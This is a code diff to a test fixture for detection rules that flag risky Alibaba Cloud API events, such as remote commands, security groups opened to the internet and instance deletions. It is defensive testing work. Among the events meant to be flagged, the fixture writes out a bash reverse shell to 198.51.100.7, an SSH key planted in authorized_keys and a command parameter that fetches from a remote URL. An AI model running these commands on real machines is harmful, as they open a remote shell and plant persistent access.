@@ -35,6 +35,12 @@ const DELETION = [
 ];
 
 /** Auto Scaling by its service-linked role, from wherever it is; and what the system does itself. */
+/** A role by the name that a console gave it; the host of the service stands where it calls by itself. */
+const roleOfAService = (sourceIpAddress: string) => ({
+  sourceIpAddress,
+  userIdentity: { type: 'assumed-role', userName: 'aliyunemrdefaultrole:emr' },
+});
+
 const AUTOSCALING = {
   sourceIpAddress: '47.88.1.2',
   userIdentity: { type: 'assumed-role', userName: 'AliyunServiceRoleForAutoScaling:ess' },
@@ -42,6 +48,14 @@ const AUTOSCALING = {
 const SYSTEM = { userIdentity: { type: 'system', userName: 'ecs' } };
 
 const OPEN = { SecurityIps: '0.0.0.0/0' };
+const WEB_AS_TERRAFORM_CALLS = {
+  'Permissions.1.IpProtocol': 'TCP',
+  'Permissions.1.PortRange': '443/443',
+  'Permissions.1.SourceCidrIp': '0.0.0.0/0',
+  'Permissions.2.PortRange': '80/80',
+  'Permissions.2.SourceCidrIp': '0.0.0.0/0',
+};
+
 const SSH_FROM_ANYWHERE = { SourceCidrIp: '0.0.0.0/0', PortRange: '22/22' };
 /** As some serialisers write a slash. */
 const ESCAPED = '{"SecurityIps":"0.0.0.0\\/0","SourceCidrIp":"0.0.0.0\\/0"}';
@@ -459,6 +473,22 @@ export const workloads: Readonly<Record<string, ByHand>> = {
     ],
     passes: [...calls('Vpc', 'DescribeVpnConnections'), ...calls('Ens', 'CreateVpnConnection')],
   },
+  'remote-command-on-many': {
+    from: 'API pages of RunCommand, InvokeCommand and SendFile: InstanceId.N',
+    hears: [
+      ...calls('Ecs', 'RunCommand InvokeCommand SendFile', {
+        'InstanceId.1': 'i-1',
+        'InstanceId.2': 'i-2',
+        'InstanceId.3': 'i-3',
+      }),
+      ...calls('Ecs', 'InvokeCommand', { InstanceId: '["i-1","i-2","i-3"]' }),
+    ],
+    passes: [
+      ...calls('Ecs', 'InvokeCommand', { 'InstanceId.1': 'i-1', 'InstanceId.2': 'i-2' }),
+      ...calls('Ecs', 'RunCommand', { 'InstanceId.1': 'i-1' }),
+      ...calls('Ecs', 'DescribeInvocations', { 'InstanceId.1': 'i-1', 'InstanceId.3': 'i-3' }),
+    ],
+  },
   'remote-command-run': {
     from: 'API list of ECS, Cloud Assistant',
     hears: calls('Ecs', 'RunCommand InvokeCommand'),
@@ -477,8 +507,8 @@ export const workloads: Readonly<Record<string, ByHand>> = {
         ContentEncoding: 'PlainText',
         CommandContent: 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1',
       }),
-      ...calls('Ecs', 'InvokeCommand', { 'InstanceId.1': 'i-1', 'InstanceId.3': 'i-3' }),
       ...calls('Ecs', 'SendFile', { Content: 'ssh-ed25519 AAAA', Name: 'authorized_keys' }),
+      ...calls('Ecs', 'InvokeCommand', { Parameters: '{"from":"http://198.51.100.7/x"}' }),
       ...calls('Ecs', 'RunCommand', {}, { requestParameterJson: '{"CommandContent":"Y3Vy' }),
     ],
     passes: [
@@ -487,7 +517,7 @@ export const workloads: Readonly<Record<string, ByHand>> = {
         'InstanceId.1': 'i-1',
         CommandContent: 'c3lzdGVtY3RsIHJlc3RhcnQgbmdpbng=',
       }),
-      ...calls('Ecs', 'InvokeCommand', { 'InstanceId.1': 'i-1', 'InstanceId.2': 'i-2' }),
+      ...calls('Ecs', 'InvokeCommand', { 'InstanceId.1': 'i-1', 'InstanceId.3': 'i-3' }),
       ...calls('Ecs', 'DescribeInvocations', { CommandContent: 'curl' }),
     ],
   },
@@ -516,6 +546,13 @@ export const workloads: Readonly<Record<string, ByHand>> = {
         calls('Ecs', 'AuthorizeSecurityGroup', { SourceCidrIp: block, PortRange: '22/22' }),
       ),
       ...calls('Ecs', 'AuthorizeSecurityGroup', { 'Permissions.1.Ipv6SourceCidrIp': '::/0' }),
+      ...['22/22', '80/8080', '443/444', '8080/8080', '80/80,22/22', ''].flatMap((PortRange) =>
+        calls('Ecs', 'AuthorizeSecurityGroup', {
+          'Permissions.1.PortRange': '443/443',
+          'Permissions.2.PortRange': PortRange,
+          'Permissions.2.SourceCidrIp': '0.0.0.0/0',
+        }),
+      ),
       ...calls('Ecs', 'AuthorizeSecurityGroup', { SourcePrefixListId: 'pl-1', PortRange: '22/22' }),
       ...calls('Ecs', 'AuthorizeSecurityGroup', {}, { requestParameterJson: ESCAPED }),
       ...['', 'null', PADDED].flatMap((requestParameterJson) =>
@@ -532,21 +569,25 @@ export const workloads: Readonly<Record<string, ByHand>> = {
         SourceCidrIp: '0.0.0.0/0',
         PortRange: '443/443',
       }),
+      ...calls('Ecs', 'AuthorizeSecurityGroup', WEB_AS_TERRAFORM_CALLS),
       ...calls('Ecs', 'RevokeSecurityGroup', { SourceCidrIp: '0.0.0.0/0' }),
     ],
   },
   'security-group-web-opened': {
-    from: 'API page of AuthorizeSecurityGroup',
-    hears: ['80/80', '443/443'].flatMap((PortRange) =>
-      calls(
-        'Ecs',
-        'AuthorizeSecurityGroup ModifySecurityGroupRule ConfigureSecurityGroupPermissions',
-        {
-          SourceCidrIp: '0.0.0.0/0',
-          PortRange,
-        },
+    from: 'API page of AuthorizeSecurityGroup; the provider writes Permissions.N',
+    hears: [
+      ...['80/80', '443/443'].flatMap((PortRange) =>
+        calls(
+          'Ecs',
+          'AuthorizeSecurityGroup ModifySecurityGroupRule ConfigureSecurityGroupPermissions',
+          { SourceCidrIp: '0.0.0.0/0', PortRange },
+        ),
       ),
-    ),
+      ...calls('Ecs', 'AuthorizeSecurityGroup', WEB_AS_TERRAFORM_CALLS),
+      ...calls('Ecs', 'AuthorizeSecurityGroup', {
+        Permissions: '[{"PortRange":"443/443","SourceCidrIp":"0.0.0.0/0"}]',
+      }),
+    ],
     passes: [
       ...calls('Ecs', 'AuthorizeSecurityGroup', SSH_FROM_ANYWHERE),
       ...calls('Ecs', 'AuthorizeSecurityGroup', {
@@ -562,6 +603,8 @@ export const workloads: Readonly<Record<string, ByHand>> = {
       ...calls('Dts', 'CreateDtsInstance'),
       ...calls('ecd', 'CreateDesktops', {}, { eventType: 'ConsoleOperation' }),
       ...calls('Ecs', 'StartTerminalSession CreateImage'),
+      ...calls('Ecs', 'DeleteInstance', {}, roleOfAService('203.0.113.9')),
+      ...calls('Ecs', 'DeleteInstance', {}, roleOfAService('10.0.0.7')),
     ],
     passes: [
       ...calls('Ecs', 'StopInstances AuthorizeSecurityGroup'),
@@ -569,6 +612,7 @@ export const workloads: Readonly<Record<string, ByHand>> = {
       ...calls('Emr', 'CreateCluster', {}, SYSTEM),
       ...calls('Emr', 'DescribeClusters', {}, { eventRW: 'Read' }),
       ...calls('Emr', 'CreateCluster', {}, AUTOSCALING),
+      ...calls('Ecs', 'DeleteInstance', {}, roleOfAService('emr.aliyuncs.com')),
     ],
   },
   'vpc-changed': {
